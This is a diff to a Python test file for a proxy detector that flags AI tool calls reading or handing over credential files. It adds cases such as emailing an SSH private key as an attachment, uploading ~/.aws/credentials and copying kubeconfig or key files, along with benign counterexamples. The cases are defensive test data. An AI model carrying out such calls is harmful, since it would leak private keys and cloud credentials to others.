@@ -1,7 +1,7 @@
-"""Credentials a tool is sent to by a URL it is handed: a ``file:`` URL to a credential file and an instance
-metadata URL to the host's credentials are reads whatever the tool is called; a URL a message mentions,
-a web page's path and the metadata service's other paths are not. Unit cases, then one through the
-proxy with the official SDK."""
+"""Credentials a tool is handed by a path or a URL: a ``file:`` URL to a credential file, its path as an
+attachment or an upload, and an instance metadata URL to the host's credentials are reads whatever the
+tool is called; a URL a message mentions, a path a tool uses or writes, a web page's path and the metadata
+service's other paths are not. Unit cases, then one through the proxy with the official SDK."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ from collections.abc import Callable
 import pytest
 
 from proxy.detectors.credentials import credential_scanner
-from proxy.detectors.fetched_urls import handed_urls, url_reads
+from proxy.detectors.handed_files import handed_locations, handed_reads
 from proxy.exchange import ToolCall
 from proxy.scanning.rulepack import SCAN_TIMEOUT_RULE, ScanBudget, load_packaged_packs
 from tests.harness import Proxy
@@ -74,6 +74,17 @@ READS = [
         "workload-identity-token",
     ),
     ("fetch", "file:///root/.ssh/id_rsa", "ssh-private-key-file"),
+    ("agent_tool", {"input": '{"url": "file:///root/.ssh/id_rsa"}'}, "ssh-private-key-file"),
+    ("send_email", {"to": "a@example.com", "attachments": ["/home/u/.ssh/id_rsa"]}, "ssh-private-key-file"),
+    ("upload", {"file": "~/.aws/credentials", "bucket": "b"}, "cloud-credentials-file"),
+    ("attach", {"filename": "$HOME/.kube/config"}, "kubeconfig-file"),
+    (
+        "post_message",
+        {"channel": "c", "file_path": "C:\\Users\\bob\\.aws\\credentials"},
+        "cloud-credentials-file",
+    ),
+    ("share", {"files": "/home/u/.aws/credentials, /home/u/notes.txt"}, "cloud-credentials-file"),
+    ("copy", {"source_path": "~/.ssh/id_ed25519", "destination": "/srv/k"}, "ssh-private-key-file"),
 ]
 """A tool, its arguments (a string: a custom tool's input) and the rule the call breaks."""
 
@@ -94,6 +105,12 @@ NO_READS = [
         {"text": "See http://169.254.169.254/latest/meta-data/iam/security-credentials/ in the runbook"},
     ),
     ("lookup", {"id": "user:42", "scope": "read:org"}),
+    ("send_email", {"to": "a@example.com", "attachments": ["/workspace/report.pdf"]}),
+    ("save", {"filename": "/app/.env", "content": "PORT=3000"}),
+    ("deploy_service", {"env_file": "/srv/app/.env", "image": "app:1"}),
+    ("create_gist", {"files": {"k.md": {"content": "x"}}, "description": "/home/u/.ssh/id_rsa"}),
+    ("post_message", {"channel": "c", "text": "~/.aws/credentials"}),
+    ("upload", {"file": "notes/.env-setup.md"}),
 ]
 """Tools handed URLs that read no credential, or sentences that only mention one."""
 
@@ -101,7 +118,7 @@ NO_READS = [
 def _reads(name: str, arguments: object) -> list[str]:
     text = arguments if isinstance(arguments, str) else json.dumps(arguments)
     call = ToolCall(id="call_1", name=name, arguments=text, where="tool_calls[0]")
-    return [finding.rule for finding in url_reads([call], SCANNER, SCANNER.budget())]
+    return [finding.rule for finding in handed_reads([call], SCANNER, SCANNER.budget())]
 
 
 @pytest.mark.parametrize(("name", "arguments", "rule"), READS)
@@ -127,12 +144,12 @@ def test_only_strings_made_of_urls_are_handed() -> None:
         "c": {"d": "https://h/p, ftp://h/q"},
         "e": "no:path",
     }
-    assert list(handed_urls(json.dumps(arguments))) == ["file:///x/y", "https://h/p", "ftp://h/q"]
+    assert list(handed_locations(json.dumps(arguments))) == ["file:///x/y", "https://h/p", "ftp://h/q"]
 
 
 def test_a_spent_budget_makes_the_rules_out_of_time_and_the_call_withheld() -> None:
     call = ToolCall(id="c", name="fetch", arguments='{"url": "file:///root/.ssh/id_rsa"}', where="w")
-    findings = url_reads([call], SCANNER, ScanBudget(0.0))
+    findings = handed_reads([call], SCANNER, ScanBudget(0.0))
     assert findings and {finding.rule for finding in findings} == {SCAN_TIMEOUT_RULE}
 
 
